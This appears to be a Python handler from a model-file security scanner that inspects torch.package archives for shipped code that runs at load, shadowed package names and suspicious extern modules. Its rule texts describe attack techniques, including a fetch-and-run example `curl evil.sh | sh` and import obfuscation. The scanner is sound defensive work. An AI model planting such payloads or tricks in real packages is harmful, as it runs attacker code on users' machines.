"""torch.package archives: the `.py` members that `PackageImporter` executes, judged as code.

`torch.package.PackageExporter` writes a zip with `<root>/.data/extern_modules` and the packaged modules
as `.py` members. `PackageImporter` compiles and runs a member when it is imported, in particular when
`load_pickle` resolves a global: its `find_class` looks in the package first, so a member named
`numpy/core/multiarray.py` *is* `numpy.core.multiarray` for the archive's pickles, whatever the name
promises. The zip walker still scans every member (pickles as pickles); this handler reads the archive
as a whole: the shipped source with `core/pysource.analyse_source` (import-time code, and the methods a
pickle calls while rebuilding: constructors, `__setstate__`, `__reduce__`), and the pickles' globals that
resolve to shipped modules named like packages the catalogue knows.
"""

from __future__ import annotations

import ast
import pickletools
import zipfile
from collections.abc import Generator, Iterator

from modelshield.core import callables, pysource
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.source import Source
from modelshield.formats._archive import zip_names
from modelshield.formats.pickle import torch_views

SHIPPED_CODE = Rule(
    id="PKG001",
    title="torch.package ships code that acts at load",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A `.py` member of a torch.package archive runs a command, dynamic code, network access or file "
    "writes at import time (module level, class bodies, decorators, default values) or in a method that "
    "rebuilding a pickled object calls (`__init__`, `__setstate__`, `__reduce__`).",
    attack="`PackageImporter` executes the member as soon as `load_pickle` resolves a global in it, or when "
    "the user calls `import_module`: no pickle opcode is needed beyond naming a class of the shipped module.",
    impact="Arbitrary code with the rights of the loading process.",
    remediation="Do not load the package. Rebuild the model from source you trust and save its weights in a "
    "weights-only format.",
    example="`packaged/net.py` beginning with `import os; os.system('curl evil.sh | sh')`, and `model.pkl` "
    "naming `packaged.net.PackagedNet`.",
)
SHADOWED_MODULE = Rule(
    id="PKG002",
    title="torch.package ships a module named like a known package",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="A pickle of the archive names a global whose module the archive ships itself, under the name "
    "of a package the scanner's catalogue knows (`numpy`, `torch`, `collections`, ...). `PackageImporter` "
    "resolves it to the shipped source, not to the installed package, so the allowlist's trust in the name "
    "does not apply: the global is judged by the shipped source (its module, parent `__init__.py` files and "
    "the shipped modules it imports). Medium when that source does nothing at load (exporters intern "
    "third-party packages under their own names), raised to the severity of what it does.",
    attack="The attacker ships `numpy/core/multiarray.py` with a payload and pickles an ordinary array: "
    "`numpy.core.multiarray._reconstruct` looks trusted, but the archive's own code runs.",
    impact="Whatever the shipped module does (see PKG001 for what was found in it) runs at load; a benign "
    "shipped copy still replaces the installed code the name promises.",
    remediation="Do not load the package unless you reviewed the shipped modules; prefer packages that extern "
    "third-party libraries instead of shipping copies of them.",
    example="`shadows_numpy/numpy/core/multiarray.py` in the archive, `model.pkl` naming "
    "`numpy.core.multiarray._reconstruct`.",
)
UNREAD_MEMBER = Rule(
    id="PKG003",
    title="torch.package member not analysed",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="A `.py` or pickle member of a torch.package archive is larger than the analysis bound or "
    "could not be read, so the code it carries (or the globals it resolves) was not judged.",
    attack="An attacker pads a shipped module past the bound so that its payload is never parsed.",
    impact="Unknown: the member was not analysed.",
    remediation="Review the member by hand before loading the package.",
)

SHIPPED_GLOBAL = Rule(
    id="PKG004",
    title="torch.package pickle calls code the package ships",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A pickle of the archive names a global whose module `PackageImporter` loads from the archive "
    "itself (the module, a parent package's `__init__.py`, or a shipped module it imports), and that shipped "
    "source acts at load (PKG001). The global is judged by that source, whatever its name.",
    attack="The pickle only names `mymodels.net.Net`; importing the shipped `mymodels/__init__.py` or a helper "
    "the module imports runs the payload, so the pickle looks like an ordinary custom class.",
    impact="Whatever the shipped source does (severity of its worst PKG001 problem) runs at `load_pickle`.",
    remediation="Do not load the package; re-create the model from source you trust.",
    example="`model.pkl` naming `mymodels.net.Net`, `mymodels/__init__.py` calling `os.system(...)`.",
)
EXTERN_MODULE = Rule(
    id="PKG005",
    title="torch.package imports a powerful host module nothing in it names",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="`.data/extern_modules` lists modules `PackageImporter` imports from the host environment; the "
    "shipped code can only import modules listed there (or shipped). `PackageExporter` writes the list from "
    "the imports of the shipped code, so a module that runs commands, reaches arbitrary attributes, touches "
    "files or the network, or loads pickles, that no shipped source imports by name and no pickle names, is "
    "only needed by code that imports it by a computed name, or by an archive edited by hand.",
    attack="The attacker hides the import (`__import__(''.join(...))`) and adds `os` to `extern_modules` so "
    "that the hermetic importer lets the shipped code reach it.",
    impact="The shipped code can run commands or touch files through the host module.",
    remediation="Do not load the package; an exported package lists exactly the modules its code imports.",
    example="`.data/extern_modules` listing `subprocess` while no shipped `.py` member imports it.",
)

MAX_MEMBER = 1 << 20
"""Bytes of one shipped module or pickle read for analysis."""
MAX_EXTERNS = 4096
_MARKER = ".data/extern_modules"
#: Methods a pickle makes run while it rebuilds an object of a shipped class.
_REBUILD = pysource.CONSTRUCTORS | {"__setstate__", "__reduce__", "__reduce_ex__", "__getattr__", "__del__"}
_STRINGS = frozenset({"SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8", "STRING", "BINSTRING"})
#: Host modules whose import gives the shipped code commands, arbitrary attributes, files or pickles.
_POWERFUL = frozenset({callables.Kind.CODE, callables.Kind.GADGET, callables.Kind.ACCESS, callables.Kind.LOADER})


def _root(names: list[str]) -> str | None:
    """The archive's root folder (`<root>/.data/extern_modules`), or None if it is not a torch.package."""
    for name in names:
        if name.endswith("/" + _MARKER) and name.count("/") == 2:
            return name[: -len(_MARKER)]
    return None


def _module(member: str, root: str) -> str | None:
    """`<root>/a/b.py` and `<root>/a/b/__init__.py` are module `a.b` for the importer."""
    if not member.startswith(root) or not member.endswith(".py") or member.startswith(root + ".data/"):
        return None
    path = member[len(root) : -3].removesuffix("/__init__")
    return path.replace("/", ".") or None


def _globals(data: bytes) -> Iterator[tuple[str, str]]:
    """(module, name) of every GLOBAL and STACK_GLOBAL (its two last strings), read without unpickling."""
    strings: list[str] = []
    memo: dict[int, str] = {}
    try:
        for op, arg, _ in pickletools.genops(data):
            if op.name == "GLOBAL" and isinstance(arg, str):
                module, _, name = arg.partition(" ")
                yield module, name
            elif op.name in _STRINGS and isinstance(arg, str):
                strings.append(arg)
            elif op.name in ("BINPUT", "LONG_BINPUT", "PUT") and strings:
                memo[int(arg)] = strings[-1]  # type: ignore[arg-type]
            elif op.name == "MEMOIZE" and strings:
                memo[len(memo)] = strings[-1]
            elif op.name in ("BINGET", "LONG_BINGET", "GET") and int(arg) in memo:  # type: ignore[arg-type]
                strings.append(memo[int(arg)])  # type: ignore[arg-type]
            elif op.name == "STACK_GLOBAL" and len(strings) >= 2:
                yield strings[-2], strings[-1]
    except (ValueError, KeyError, TypeError):
        return  # the pickle analyser reports the malformed stream


def _imports(text: str, module: str, is_package: bool) -> set[str]:
    """Every module a shipped source names in an import statement, anywhere (relative ones resolved);
    for `from a import b`, both `a` and `a.b` (b may be a submodule)."""
    try:
        tree = ast.parse(text)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return set()
    names: set[str] = set()
    package = module if is_package else module.rpartition(".")[0]
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names.update(alias.name for alias in node.names)
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "__import__":
            # the importer patches `__import__` into the shipped modules' builtins: it loads shipped modules too
            # (a name built from pieces is not "named": PKG005 still reports the extern it needs)
            first = node.args[0] if node.args else None
            if isinstance(first, ast.Constant) and isinstance(first.value, str):
                names.add(first.value)
        elif isinstance(node, ast.ImportFrom):
            base = node.module or ""
            if node.level:
                parts = package.split(".") if package else []
                parts = parts[: len(parts) - node.level + 1] if node.level > 1 else parts
                base = ".".join([*parts, *([base] if base else [])])
            if base:
                names.add(base)
                names.update(f"{base}.{alias.name}" for alias in node.names if alias.name != "*")
    return names


class _Package:
    """What `PackageImporter` would do with one archive: which modules are shipped, which are externs, and
    what importing a shipped module runs (its parent packages' `__init__.py`, itself, the shipped modules
    it imports), judged by the shipped sources' worst problems."""

    def __init__(self, externs: list[str]) -> None:
        self.externs = externs
        self.members: dict[str, str] = {}
        self.problems: dict[str, list[pysource.CodeProblem]] = {}
        self.imports: dict[str, set[str]] = {}

    def add(self, module: str, member: str, text: str) -> list[pysource.CodeProblem]:
        problems, _ = pysource.analyse_source(text, member, _REBUILD)
        self.members[module] = member
        self.problems[module] = problems
        self.imports[module] = _imports(text, module, member.endswith("/__init__.py"))
        return problems

    def extern(self, module: str) -> bool:
        return any(module == e or module.startswith(e + ".") for e in self.externs)

    def runs(self, module: str) -> list[str] | None:
        """The shipped modules whose code runs when `module` is imported, or None if it is not shipped
        (an extern, or a name the importer cannot find)."""
        if self.extern(module) or not any(m == module or m.startswith(module + ".") for m in self.members):
            return None
        ran: dict[str, None] = {}
        queue = [module]
        while queue and len(ran) < len(self.members):
            name = queue.pop()
            parts = name.split(".")
            for i in range(1, len(parts) + 1):  # parents first: `a/__init__.py` runs before `a/b.py`
                prefix = ".".join(parts[:i])
                if prefix in self.members and prefix not in ran and not self.extern(prefix):
                    ran[prefix] = None
                    queue += [m for m in self.imports[prefix] if m in self.members and m not in ran]
        return list(ran)

    def worst(self, modules: list[str]) -> tuple[Severity, str, pysource.CodeProblem | None]:
        """The worst problem of the given shipped modules, with the module it is in."""
        found = [(p.severity, m, p) for m in modules for p in self.problems[m][:1]]
        if not found:
            return Severity.INFO, "", None
        return max(found, key=lambda item: item[0])

    def named(self) -> set[str]:
        return {name for names in self.imports.values() for name in names}


class TorchPackageHandler(Handler):
    name = "torch-package"
    label = "torch.package archive"
    rules = (SHIPPED_CODE, SHADOWED_MODULE, UNREAD_MEMBER, SHIPPED_GLOBAL, EXTERN_MODULE)  # and TEN001
    companion = True

    def detect(self, source: Source) -> bool:
        names = zip_names(source)
        return names is not None and _root(list(names)) is not None

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        with zipfile.ZipFile(source.stream()) as archive:
            infos = archive.infolist()
            root = _root([i.filename for i in infos]) or ""
            marker = yield from self._read(archive, archive.getinfo(root + _MARKER), ctx)
            externs = (marker or b"").decode("utf-8", "replace").splitlines()[:MAX_EXTERNS]
            package = _Package([e.strip() for e in externs if callables.valid_module(e.strip())])
            for info in infos:
                module = _module(info.filename, root)
                if module is None:
                    continue
                data = yield from self._read(archive, info, ctx)
                if data is None:
                    continue
                for problem in package.add(module, info.filename, data.decode("utf-8", "replace")):
                    evidence = f"module {module!r}: line {problem.line}: {problem.text}"
                    yield ctx.finding(SHIPPED_CODE, evidence, severity=problem.severity, member=info.filename)
            pickled: set[str] = set()
            for info in infos:
                if info.filename.endswith(".pkl"):
                    data = yield from self._read(archive, info, ctx)
                    globals_ = sorted(set(_globals(data or b"")))
                    pickled.update(module for module, _ in globals_)
                    yield from self._pickle_findings(package, globals_, info.filename, ctx)
            yield from self._extern_findings(package, pickled, root + _MARKER, ctx)
            yield from torch_views.view_findings(archive, ctx)

    @staticmethod
    def _pickle_findings(
        package: _Package, globals_: list[tuple[str, str]], member: str, ctx: Context
    ) -> Iterator[Finding]:
        """One finding per shipped module the pickle's globals import: PKG002 when the name is one the
        catalogue knows (the allowlist must not vouch for it), PKG004 when the source acts at load."""
        by_module: dict[str, list[str]] = {}
        for module, name in globals_:
            by_module.setdefault(module, []).append(name)
        for module, names in by_module.items():
            ran = package.runs(module)
            if not ran:
                continue
            severity, where, problem = package.worst(ran)
            shown = ", ".join(f"{module}.{n}" for n in names[:3]) + (", ..." if len(names) > 3 else "")
            files = ", ".join(package.members[m] for m in ran[:3])
            found = f"; {package.members[where]}:{problem.line}: {problem.text}" if problem else ""
            known = any(callables.judge(module, n).kind is not callables.Kind.UNKNOWN for n in names)
            if known or callables.judge(module, "").kind is not callables.Kind.UNKNOWN:
                evidence = (
                    f"global {shown} resolves to the archive's own {files}, not to the installed "
                    f"{module.partition('.')[0]}{found}"
                )
                level = severity if severity >= Severity.HIGH else Severity.MEDIUM
                yield ctx.finding(SHADOWED_MODULE, evidence, severity=level, member=member)
            elif severity >= Severity.HIGH:
                evidence = f"global {shown} imports the shipped {files}{found}"
                yield ctx.finding(SHIPPED_GLOBAL, evidence, severity=severity, member=member)

    @staticmethod
    def _extern_findings(package: _Package, pickled: set[str], member: str, ctx: Context) -> Iterator[Finding]:
        named = package.named() | pickled
        for extern in package.externs:
            verdict = callables.judge(extern, "")
            if verdict.kind not in _POWERFUL:
                continue
            used = any(n == extern or n.startswith(extern + ".") or extern.startswith(n + ".") for n in named)
            if not used:
                evidence = (
                    f"extern module {extern!r} ({verdict.reason}) is imported from the host, but no shipped "
                    "module imports it by name and no pickle names it"
                )
                yield ctx.finding(EXTERN_MODULE, evidence, member=member)

    @staticmethod
    def _read(archive: zipfile.ZipFile, info: zipfile.ZipInfo, ctx: Context) -> Generator[Finding, None, bytes | None]:
        """A member's bytes within the bound; a finding (and None) past it or when it cannot be read."""
        if info.file_size > MAX_MEMBER:
            yield ctx.finding(UNREAD_MEMBER, f"{info.file_size} bytes, over {MAX_MEMBER}", member=info.filename)
            return None
        try:
            with archive.open(info) as member:
                return member.read(MAX_MEMBER + 1)[:MAX_MEMBER]
        except (zipfile.BadZipFile, OSError, ValueError, EOFError, NotImplementedError) as exc:
            yield ctx.finding(UNREAD_MEMBER, f"could not be read ({type(exc).__name__})", member=info.filename)
            return None
